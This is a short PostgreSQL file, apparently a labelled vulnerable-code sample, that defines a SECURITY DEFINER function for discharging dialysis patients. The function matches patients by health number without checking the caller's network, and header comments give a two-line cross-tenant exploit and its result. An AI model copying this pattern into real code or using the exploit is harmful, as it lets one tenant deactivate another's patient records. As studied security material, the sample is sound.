-- The function runs as its owner and finds the patient by the health number alone, so it changes others'
-- patients.
-- about: discharge_patient, patients
-- as: hf_dialysis_app
-- exploit: SET dia.network = 'a3000000-0000-4000-8000-000000000001';
-- exploit: SELECT 'discharged ' || dia.discharge_patient('1000777');
-- shows: discharged 1
CREATE FUNCTION dia.discharge_patient(p_health_no text) RETURNS integer
LANGUAGE plpgsql SECURITY DEFINER
SET search_path = dia, pg_temp
AS $$
DECLARE
  n integer;
BEGIN
  IF dia.network() IS NULL THEN
    RAISE EXCEPTION 'no network';
  END IF;
  UPDATE patients SET active = false WHERE health_no = p_health_no;
  GET DIAGNOSTICS n = ROW_COUNT;
  RETURN n;
END
$$;
REVOKE ALL ON FUNCTION dia.discharge_patient(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION dia.discharge_patient(text) TO hf_dialysis_app;
